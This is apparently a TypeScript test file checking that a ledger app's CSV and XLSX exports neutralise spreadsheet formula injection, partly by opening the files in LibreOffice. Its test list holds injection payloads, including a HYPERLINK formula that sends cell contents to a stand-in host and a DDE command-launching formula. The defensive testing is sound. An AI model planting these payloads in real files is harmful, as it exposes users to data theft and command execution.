import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { parseCsv } from 'hucre/csv'
import { readXlsx, writeXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ledgerWorkbook } from '../../../api/http/ledger-workbook.ts'
import { csvFile, inertText } from '../../../api/http/spreadsheet-text.ts'
import { plainText } from '../../../api/imports/cells/read-text.ts'

const nasty = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"点击")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=1+1",
  '%0A=1',
  '|calc',
]

const ledgerOf = (texts: readonly string[]) =>
  ledgerWorkbook({
    title: '台账',
    line: '=1+1',
    sheetName: '台账',
    columns: [{ header: '文字', width: 20, cell: (text: string) => text }],
    printed: 1,
    rows: texts,
  })

test('a text that a spreadsheet would run is made inert, others are left as they are', () => {
  for (const text of nasty) expect(inertText(text)).toBe(`'${text}`)
  for (const text of ['K1046+200', '棋盘井', '', '109国道', 'a=b'] as const)
    expect(inertText(text)).toBe(text)
})

test('numbers stay numbers, negative ones too', () => {
  expect(csvFile([[-5, 3.5, null, '-5']])).toBe("﻿-5,3.5,,'-5")
})

test('taking one apostrophe away gives back what was made inert', () => {
  const plainOf = (inert: string) => (inertText(inert.slice(1)) === inert ? inert.slice(1) : inert)
  fc.assert(
    fc.property(fc.string(), (text) => {
      expect(plainOf(inertText(text))).toBe(text)
    }),
  )
})

test('an import takes the apostrophe away again', () => {
  for (const text of ['=1+1', '+8', '-3', '@x']) expect(plainText(inertText(text))).toBe(text)
})

const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((path) => existsSync(path))

describe.skipIf(!soffice)('in LibreOffice', () => {
  let folder: string
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'inert-'))
  })
  afterAll(() => {
    rmSync(folder, { recursive: true, force: true })
  })

  /** Opens the file, computes what there is to compute, and writes what the cells show. */
  function shown(name: string, content: Uint8Array | string): string[] {
    const out = join(folder, 'out')
    writeFileSync(join(folder, name), content)
    const profile = `-env:UserInstallation=file://${folder}/profile`
    // 44 comma, 34 quote, 76 UTF-8; "evaluate formulas" on, as a careless user would have it.
    const input = name.endsWith('.csv')
      ? ['--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true']
      : []
    execFileSync(
      soffice!,
      [
        profile,
        '--headless',
        ...input,
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76',
        '--outdir',
        out,
        join(folder, name),
      ],
      { timeout: 110_000, stdio: 'ignore' },
    )
    const text = readFileSync(join(out, name.replace(/\.\w+$/, '.csv')), 'utf8')
    return parseCsv(text, { delimiter: ',' }).map((row) => String(row[0]))
  }

  test('no cell of a CSV file is computed', { timeout: 120_000 }, () => {
    const texts = nasty.filter((text) => !/[\t\r]/.test(text))
    // Without the apostrophe it is computed, so the test looks at the right thing.
    expect(shown('bare.csv', '=1+1\n')).toEqual(['2'])
    expect(shown('ledger.csv', csvFile(texts.map((text) => [text])))).toEqual(texts.map(inertText))
  })

  test(
    'no cell of a workbook is computed, and its texts are as they were',
    { timeout: 120_000 },
    async () => {
      const texts = nasty.filter((text) => !/[\t\r]/.test(text))
      const rows = shown('ledger.xlsx', await writeXlsx(ledgerOf(texts)))
      expect(rows.slice(1)).toEqual(['=1+1', '文字', ...texts])
    },
  )
})

test('a workbook keeps every text as a text', async () => {
  const { sheets } = await readXlsx(await writeXlsx(ledgerOf(nasty)))
  const texts = sheets[0]!.rows.slice(3).map(([cell]) => cell)
  expect(texts.filter((text) => typeof text === 'string')).toHaveLength(nasty.length)
  expect(texts[0]).toBe('=1+1')
})
